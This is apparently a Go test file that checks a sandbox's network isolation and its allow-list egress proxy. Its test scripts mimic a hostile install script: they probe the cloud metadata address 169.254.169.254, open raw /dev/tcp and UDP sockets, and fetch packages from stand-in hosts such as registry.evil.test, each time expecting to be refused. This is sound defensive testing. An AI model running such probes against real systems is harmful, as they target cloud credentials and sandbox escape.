package sandbox

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/sre-agent/sre-agent/internal/egress"
)

// proxyFor has the hosts and the registries on its list. A network with a mirror of its own, as a test's may be, has the
// registries at private addresses.
func proxyFor(t *testing.T, private ...string) *egress.Proxy {
	t.Helper()
	p, err := egress.New(egress.Config{Private: append(private, "proxy.golang.org", "sum.golang.org", "registry.npmjs.org")})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// networked is a sandbox with such a proxy.
func networked(t *testing.T, private ...string) *Sandbox {
	t.Helper()
	s := newSandbox(t)
	s.egress = proxyFor(t, private...)
	return s
}

// origin is a server on the host's loopback.
func origin(t *testing.T) *httptest.Server {
	t.Helper()
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprintf(w, "origin has %s\n", r.URL.Path) }))
	t.Cleanup(server.Close)
	return server
}

func TestARunHasNoNetworkOfTheHost(t *testing.T) {
	t.Parallel()
	eachBackend(t, func(t *testing.T, s *Sandbox) {
		host, err := os.Readlink("/proc/self/ns/net")
		if err != nil {
			t.Fatal(err)
		}
		s.egress = proxyFor(t)
		for _, network := range []bool{false, true} {
			res := run(t, s, Spec{Script: `readlink /proc/self/ns/net; cut -d: -f1 -s /proc/net/dev; grep -q . /etc/resolv.conf 2>/dev/null || echo no-resolver; tail -n +2 /proc/net/route | wc -l`, Network: network})
			if strings.Contains(res.Output, host) || !strings.HasPrefix(res.Output, "net:[") || strings.Count(res.Output, "\n") != 4 || !strings.Contains(res.Output, "lo\nno-resolver\n0\n") {
				t.Errorf("network %v: %s", network, res.Output)
			}
		}
	})
}

func TestTheProxyIsThereOnlyWhenAskedFor(t *testing.T) {
	t.Parallel()
	eachBackend(t, func(t *testing.T, s *Sandbox) {
		server := origin(t)
		address := server.Listener.Addr().String()
		s.egress = proxyFor(t, "http://"+address)
		script := `echo "${HTTPS_PROXY:-none}"; exec node -e '
const http = require("http")
const req = http.get({host: "127.0.0.1", port: 3128, path: "http://` + address + `/x", headers: {host: "` + address + `"}}, r => r.pipe(process.stdout))
req.on("error", e => console.log(e.code))'`
		if got := run(t, s, Spec{Script: script, Network: true}); got.Output != "http://127.0.0.1:3128\norigin has /x\n" {
			t.Errorf("with the network: %+v", got)
		}
		if got := run(t, s, Spec{Script: script}); got.Output != "none\nECONNREFUSED\n" {
			t.Errorf("without: %+v", got)
		}
		if _, err := newSandbox(t).Run(t.Context(), Spec{Dir: t.TempDir(), Script: script, Network: true}); err == nil || !strings.Contains(err.Error(), "no proxy") {
			t.Errorf("without a proxy: %v", err)
		}
	})
}

// TestPlainSocketsReachNothing tries what a hostile package's install script would.
func TestPlainSocketsReachNothing(t *testing.T) {
	t.Parallel()
	eachBackend(t, func(t *testing.T, s *Sandbox) {
		server := origin(t)
		_, port, _ := net.SplitHostPort(server.Listener.Addr().String())
		s.egress = proxyFor(t)
		dir := t.TempDir()
		write(t, filepath.Join(dir, "try.js"), `
const net = require("net"), dgram = require("dgram"), fs = require("fs"), http = require("http")
const done = []
const tcp = (host, port) => new Promise(ok => {
	const c = net.connect({host, port, timeout: 3000}, () => ok(host + " CONNECTED"))
	c.on("error", e => ok(host + " " + e.code)); c.on("timeout", () => ok(host + " timeout"))
})
const proxied = target => new Promise(ok => {
	const r = http.request({host: "127.0.0.1", port: 3128, method: "CONNECT", path: target})
	r.on("connect", (res, socket) => { ok(target + " " + res.statusCode + " " + res.statusMessage); socket.destroy() })
	r.on("response", res => ok(target + " " + res.statusCode + " " + res.statusMessage)); r.on("error", e => ok(target + " " + e.code)); r.end()
})
const udp = host => new Promise(ok => {
	const s = dgram.createSocket("udp4"); s.send("x", 53, host, e => { ok("udp " + host + " " + (e ? e.code : "SENT")); s.close() })
})
const unix = path => new Promise(ok => { const c = net.connect(path, () => ok(path + " CONNECTED")); c.on("error", e => ok(path + " " + e.code)) })
;(async () => {
	for (const host of ["127.0.0.1", "::1"]) done.push(await tcp(host, `+port+`))
	for (const host of ["169.254.169.254", "10.0.0.1", "1.1.1.1", "2606:4700:4700::1111"]) done.push(await tcp(host, 80))
	for (const host of ["1.1.1.1", "169.254.169.254"]) done.push(await udp(host))
	for (const target of ["127.0.0.1:`+port+`", "localhost:`+port+`", "169.254.169.254:80", "example.com:443", "registry.npmjs.org:22"]) done.push(await proxied(target))
	done.push(await unix("/run/sre-agent/door"))
	console.log(done.join("\n"))
})()
`)
		res := run(t, s, Spec{Dir: dir, Script: "node try.js", Network: true})
		if strings.Contains(res.Output, "CONNECTED") || strings.Contains(res.Output, "SENT") || strings.Contains(res.Output, " 200 ") {
			t.Errorf("something was reached:\n%s", res.Output)
		}
		for _, want := range []string{
			"127.0.0.1 ECONNREFUSED", "169.254.169.254 ENETUNREACH", "udp 1.1.1.1 ENETUNREACH",
			"169.254.169.254:80 403 sre-agent's proxy refused", "example.com:443 403 sre-agent's proxy refused \"example.com:443\": it is not on the list",
			"/run/sre-agent/door ECONNREFUSED",
		} {
			if !strings.Contains(res.Output, want) {
				t.Errorf("want %q in:\n%s", want, res.Output)
			}
		}
	})
}

func TestTheProxyWorksWithoutRoot(t *testing.T) {
	t.Parallel()
	address := origin(t).Listener.Addr().String()
	cmd := helperCommand(t, `exec 2>&1 /bin/bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; printf "GET http://`+address+`/x HTTP/1.0\r\n\r\n" >&3; cat <&3; echo >/dev/tcp/`+strings.Replace(address, ":", "/", 1)+`'`, unprivileged())
	cmd.Env = append(cmd.Env, "SANDBOX_TEST_HOST=http://"+address)
	out, err := cmd.CombinedOutput()
	if err != nil || !strings.Contains(string(out), "origin has /x\n") || !strings.Contains(string(out), "Connection refused") {
		t.Errorf("%v: %s", err, out)
	}
}

func TestManyConnectionsAreBounded(t *testing.T) {
	t.Parallel()
	eachBackend(t, func(t *testing.T, s *Sandbox) {
		s.egress = proxyFor(t)
		before := openFiles(t)
		res := run(t, s, Spec{Network: true, Script: `exec node -e '
const net = require("net"); let n = 0
for (let i = 0; i < 1000; i++) net.connect(3128, "127.0.0.1", () => n++).on("error", () => {})
setTimeout(() => { console.log(n > 0); process.exit() }, 1500)'`})
		if res.ExitCode != 0 || !strings.HasPrefix(res.Output, "true") {
			t.Errorf("got %+v", res)
		}
		until(t, "the connections are closed", func() bool { return openFiles(t) < before+maxConnections })
	})
}

func openFiles(t *testing.T) int {
	t.Helper()
	entries, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		t.Fatal(err)
	}
	return len(entries)
}

func TestATunnelEndsWithItsRun(t *testing.T) {
	t.Parallel()
	eachBackend(t, func(t *testing.T, s *Sandbox) {
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		defer func() { _ = ln.Close() }()
		ended := make(chan error, 1)
		go func() {
			conn, err := ln.Accept()
			if err == nil {
				_ = conn.SetReadDeadline(time.Now().Add(30 * time.Second))
				for err == nil {
					_, err = conn.Read(make([]byte, 100))
				}
				_ = conn.Close()
			}
			ended <- err
		}()
		s.egress = proxyFor(t, ln.Addr().String())
		begin := time.Now()
		res := run(t, s, Spec{Network: true, Limits: Limits{Time: 2 * time.Second}, Script: `exec node -e '
require("http").request({host: "127.0.0.1", port: 3128, method: "CONNECT", path: "` + ln.Addr().String() + `"}).on("connect", (r, s) => { s.write("x"); console.log("up") }).end()'`})
		if res.Killed != KilledTimeout || res.Output != "up\n" {
			t.Errorf("got %+v", res)
		}
		if err := <-ended; err == nil || os.IsTimeout(err) || time.Since(begin) > 20*time.Second {
			t.Errorf("the other side saw %v after %v", err, time.Since(begin))
		}
	})
}

// TestPackageManagersWorkThroughTheProxy asks the real registries.
func TestPackageManagersWorkThroughTheProxy(t *testing.T) {
	t.Parallel()
	s := networked(t)
	tests := map[string]struct {
		files  map[string]string
		script string
	}{
		"go mod download": {
			map[string]string{"go.mod": "module example.com/x\n\ngo 1.21\n\nrequire golang.org/x/text v0.3.0\n"},
			`go mod download golang.org/x/text@v0.3.0; test -d "$(go env GOMODCACHE)/golang.org/x/text@v0.3.0"; chmod -R u+w "$HOME/go"`,
		},
		"npm install": {
			map[string]string{"package.json": `{"name":"x","version":"1.0.0","dependencies":{"is-number":"7.0.0"}}`},
			`npm install --no-audit --no-fund --loglevel=error; test -e node_modules/is-number/package.json`,
		},
		"a request in plain HTTP goes on over TLS": {
			nil, `node -e 'require("http").get({host: "127.0.0.1", port: 3128, path: "http://registry.npmjs.org/is-number/7.0.0"}, r => process.exit(r.statusCode == 200 ? 0 : 1))'`,
		},
		"go is told why a host is refused": {
			map[string]string{"go.mod": "module example.com/x\n\ngo 1.21\n"},
			`GOPROXY=https://proxy.evil.test go mod download golang.org/x/text@v0.3.0 >out 2>&1 && exit 1; cat out; grep -q "not on the list of hosts" out`,
		},
		"npm is told too": {
			map[string]string{"package.json": `{"name":"x","version":"1.0.0","dependencies":{"is-number":"7.0.0"}}`},
			`npm install --registry https://registry.evil.test --fetch-retries=0 >out 2>&1 && exit 1; cat out; grep -q 403 out`,
		},
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			dir := t.TempDir()
			for file, content := range test.files {
				write(t, filepath.Join(dir, file), content)
			}
			want(t, s, Spec{Dir: dir, Script: test.script, Network: true, Env: map[string]string{"GOTOOLCHAIN": "local", "GOFLAGS": "-mod=mod"}, Limits: Limits{Time: 3 * time.Minute}})
		})
	}
}

func TestAProgramThatDoesNotKnowInsideIsExplained(t *testing.T) {
	t.Parallel()
	s := networked(t)
	s.helper = "/usr/bin/true"
	_, err := s.Run(t.Context(), Spec{Dir: t.TempDir(), Script: "true", Network: true})
	if err == nil || !strings.Contains(err.Error(), "sandbox.Inside") {
		t.Errorf("got %v", err)
	}
}
